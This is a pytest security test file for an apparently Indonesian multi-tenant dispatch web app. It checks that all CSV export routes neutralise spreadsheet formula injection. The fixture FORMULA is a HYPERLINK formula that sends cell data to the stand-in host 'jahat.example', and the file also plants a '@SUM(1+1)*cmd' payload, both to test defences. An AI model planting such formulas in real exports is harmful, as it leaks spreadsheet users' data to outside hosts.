"""Every CSV export goes through app.spreadsheet: a formula typed anywhere comes out as text."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import update

from app import spreadsheet
from app.dispatch.models import Category, Opd
from app.web.routes_index import iter_routes
from tests.conftest import login
from tests.security.conftest import logged_in_client, platform_login
from tests.sla.conftest import change_status, open_dispatch, set_policy

FORMULA = '=HYPERLINK("https://jahat.example/?"&A1,"klik")'
TESTED_EXPORTS = {
    "/t/{slug}/admin/audit.csv",
    "/platform/audit.csv",
    "/t/{slug}/sla/report.csv",
    "/national/export/{name}.csv",
}


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_neutralised(text: str, formula: str = FORMULA) -> None:
    cells = _cells(text)
    assert "'" + formula in cells, "the formula should be there, as text"
    assert not [c for c in cells if c.startswith(spreadsheet.FORMULA_PREFIXES) and not _number(c)]


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_prefix_is_neutralised(prefix):
    assert spreadsheet.cell(f"{prefix}1+1") == f"'{prefix}1+1"
    assert spreadsheet.cell("Damkar =1") == "Damkar =1" and spreadsheet.cell(-5) == -5


def test_every_csv_route_is_covered_here(app):
    csv_routes = {path for path, *_ in iter_routes(app.routes) if path.endswith(".csv")}
    assert csv_routes == TESTED_EXPORTS, "a new CSV export needs a formula test here"


async def test_sla_report_csv(app, db, tenant_factory, user_factory):
    t = await tenant_factory()
    async with db.tenant(t.slug) as s:
        await s.execute(update(Opd).where(Opd.code == "damkar").values(name=FORMULA))
        await s.execute(update(Category).where(Category.code == "fire").values(name="@SUM(1+1)*cmd"))
        await s.commit()
    await set_policy(db, t.slug, priority=1, acknowledge_s=60)
    _, dispatch_id = await open_dispatch(
        db, t.slug, datetime.now(UTC) - timedelta(minutes=3), opd_code="damkar"
    )
    await change_status(db, t.slug, dispatch_id, "acknowledged", datetime.now(UTC) - timedelta(minutes=2))
    c = await logged_in_client(app, t, await user_factory(t, "supervisor"))
    try:
        resp = await c.get(f"/t/{t.slug}/sla/report.csv")
    finally:
        await c.aclose()
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    _assert_neutralised(resp.text)
    assert "'@SUM(1+1)*cmd" in _cells(resp.text)


async def test_tenant_and_platform_audit_csv(app, admin_client, tenant_a, platform_admin_client):
    import httpx

    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="https://testserver") as c:
        assert (await login(c, tenant_a.slug, FORMULA, "salah-1")).status_code == 401
        assert (await platform_login(c, FORMULA, "salah-1")).status_code == 401
    resp = await admin_client.get(f"/t/{tenant_a.slug}/admin/audit.csv", params={"action": "login.failure"})
    assert resp.status_code == 200
    _assert_neutralised(resp.text)
    resp = await platform_admin_client.get("/platform/audit.csv", params={"action": "login.failure"})
    assert resp.status_code == 200
    _assert_neutralised(resp.text)


async def test_national_exports(engine, platform_admin_client):
    from app.national import service
    from app.tenancy.provision import NewTenant, provision_tenant

    slug = f"csv{uuid.uuid4().hex[:6]}"
    await provision_tenant(
        engine, NewTenant(slug, FORMULA, f"C{uuid.uuid4().hex[:4]}", "Gorontalo", "WITA", "active")
    )
    service.clear_cache()
    for name in ("regencies",):  # where tenant names appear
        resp = await platform_admin_client.get(f"/national/export/{name}.csv")
        assert resp.status_code == 200, name
        _assert_neutralised(resp.text)
